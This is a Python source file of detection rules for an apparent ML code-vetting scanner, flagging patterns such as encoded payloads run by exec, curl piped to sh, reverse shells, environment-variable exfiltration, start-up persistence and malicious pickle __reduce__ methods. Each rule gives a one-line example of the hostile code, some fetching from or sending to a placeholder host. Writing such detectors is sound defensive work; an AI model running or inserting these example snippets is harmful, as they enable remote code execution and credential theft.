"""Rules for what only an attacker writes, or what needs a person's look before it runs."""

from __future__ import annotations

from sealwright.vetting.code.sink_rules import rule
from sealwright.vetting.interface import Rule

_ARTIFACT = ("AML.T0011.000",)
_EXFILTRATION = ("AML.T0025", "AML.T0055")

HIDDEN_CODE = rule(
    114,
    "fail",
    "critical",
    "Encoded data are decoded and run as code",
    why=(
        "Base64, hex, compressed or marshalled code that is run has one purpose: that a reader "
        "does "
        "not see what it does."
    ),
    example='exec(base64.b64decode("aW1wb3J0IG9z"))',
    remediation=(
        "treat the file as malicious; decode it in isolation and find out where it came from"
    ),
    atlas=("AML.T0010.001", "AML.T0011", "AML.T0074"),
    cwe=(506, 95),
)
FETCHED_CODE = rule(
    115,
    "fail",
    "critical",
    "What the network answers is run as code",
    why="Whoever controls the address decides at any time what the training runs.",
    example='exec(requests.get("https://example.org/x").text)',
    remediation="vendor the code and review it",
    cwe=(494, 506),
)
FETCHED_OBJECTS = rule(
    116,
    "review",
    "high",
    "What the network answers is unpickled",
    why="Unpickling calls the functions that the data name; these data come from elsewhere.",
    example="pickle.loads(requests.get(url).content)",
    remediation="download, verify a digest, scan, and only then load",
    atlas=_ARTIFACT,
    cwe=(502, 494),
)
PACKAGE_EFFECT = rule(
    119,
    "review",
    "high",
    "Installing or importing a package uses the network or starts a process",
    why=(
        "setup.py, __init__.py, sitecustomize.py and code that ships with a model run without "
        "anyone "
        "calling them: the usual place for a payload in a package."
    ),
    example='# setup.py\nurllib.request.urlopen("https://example.org/?h=" + socket.gethostname())',
    remediation="find out why; build from a source that does not need it",
    atlas=("AML.T0010.001", "AML.T0011.001"),
    cwe=(506, 829),
)
DANGEROUS_SHELL = rule(
    120,
    "fail",
    "critical",
    "A shell command downloads and runs code, or opens a shell to the outside",
    why="curl | sh, /dev/tcp, `nc -e` and base64 | sh are how a foothold is made.",
    example='os.system("curl -s https://example.org/x | sh")',
    remediation="treat the file as malicious; find out where it came from",
    atlas=("AML.T0010.001", "AML.T0011", "AML.T0072"),
    cwe=(78, 506),
)
PERSISTENCE = rule(
    122,
    "fail",
    "critical",
    "A file that runs at start-up or login is written",
    why=(
        "~/.bashrc, authorized_keys, cron, systemd units, .pth files and sitecustomize run "
        "later, in "
        "another process, without anybody's doing."
    ),
    example='open(os.path.expanduser("~/.bashrc"), "a").write(line)',
    remediation="treat the file as malicious; find out where it came from",
    atlas=("AML.T0010.001", "AML.T0011"),
    cwe=(506,),
)
REDUCE = rule(
    124,
    "fail",
    "critical",
    "A class pickles itself as a call to the system or to eval",
    why="__reduce__ that returns os.system or eval makes a pickle that runs a command when loaded.",
    example='def __reduce__(self):\n    return os.system, ("id",)',
    remediation="treat files that this class wrote as malicious",
    atlas=("AML.T0018.002", "AML.T0011.000"),
    cwe=(502, 506),
)
HARVESTING = rule(
    125,
    "fail",
    "critical",
    "The environment or kept credentials are sent over the network",
    why="All environment variables, or files as ~/.aws/credentials, hold the keys of the account.",
    example="requests.post(URL, json=dict(os.environ))",
    remediation="treat the file as malicious; change the keys of machines that ran it",
    atlas=_EXFILTRATION,
    cwe=(200, 506),
)
PATCHED_LOADER = rule(
    126,
    "review",
    "high",
    "A loader, the import system or a builtin is replaced",
    why=(
        "Code that replaces pickle's functions, import hooks or exec, eval and open changes what "
        "all "
        "other code does, whatever that code says."
    ),
    example="pickle.loads = my_loads",
    remediation="pass your own function to who needs it, and leave the shared one alone",
    atlas=("AML.T0010.001", "AML.T0074"),
    cwe=(506,),
    confidence="medium",
)
HIDDEN_NAME = rule(
    130,
    "fail",
    "high",
    "The name of a dangerous function is put together from pieces",
    why="There is no honest reason to write exec as 'ex' + 'ec': it is done to get past a review.",
    example="getattr(builtins, 'ex' + 'ec')(text)",
    remediation="treat the file as malicious; find out where it came from",
    atlas=("AML.T0010.001", "AML.T0074"),
    cwe=(506,),
)
NATIVE = rule(
    133,
    "fail",
    "critical",
    "Machine code is written into memory and run",
    why="VirtualAlloc, mprotect and a cast to a function pointer run bytes as machine code.",
    example="ctypes.windll.kernel32.VirtualAlloc(0, n, 0x3000, 0x40)",
    remediation="treat the file as malicious; find out where it came from",
    cwe=(506, 94),
)
REVERSE_SHELL = rule(
    137,
    "fail",
    "critical",
    "A shell is connected to a socket",
    why="dup2 on a socket, or a shell fed from one, lets someone outside type commands.",
    example='os.dup2(s.fileno(), 0); pty.spawn("/bin/sh")',
    remediation="treat the file as malicious; find out where it came from",
    atlas=("AML.T0010.001", "AML.T0072"),
    cwe=(506,),
)
TROJAN_SOURCE = rule(
    138,
    "fail",
    "high",
    "The text is displayed in another order than it runs",
    why=(
        "Bidirectional control characters hide code inside what looks like a comment "
        "(CVE-2021-42574)."
    ),
    example="is_admin = False  # U+202E before this makes it look otherwise",
    remediation="delete the control characters",
    atlas=("AML.T0074",),
    cwe=(1007,),
)
FILE_CODE = rule(
    139,
    "review",
    "high",
    "What a data file or a docstring holds is run as code",
    why=(
        "The code then lies where nobody looks for it: in weights, in metadata, in a text file. "
        "Those are examined as data, and reviewed by no one as code."
    ),
    example='exec(open("weights.bin").read())',
    remediation="put the code into a module and import it; read data with a parser",
    atlas=("AML.T0010.001", "AML.T0011", "AML.T0074"),
    cwe=(94, 506),
    confidence="medium",
)
BORROWED = rule(
    140,
    "review",
    "high",
    "A function that starts processes is reached through a module that has nothing to do with it",
    why=(
        "Many modules import os and subprocess for themselves. Nobody writes torch.os.system who "
        "could import os, but for a scan that looks for os.system."
    ),
    example='torch.os.system("id")',
    remediation="find out why; import os or subprocess by name",
    atlas=("AML.T0010.001", "AML.T0074"),
    cwe=(506, 78),
)
REQUESTED_COMMAND = rule(
    141,
    "review",
    "critical",
    "A shell is given what a request holds",
    why=(
        "Code that serves a model and hands a part of each request to a shell lets whoever may "
        "ask the model run any command: a web shell."
    ),
    example="def handle(data): subprocess.check_output(data[0]['body'], shell=True)",
    remediation="call a fixed program with a list of arguments, without a shell",
    cwe=(78, 506),
    confidence="medium",
)
RULES = tuple(value for value in globals().values() if isinstance(value, Rule))
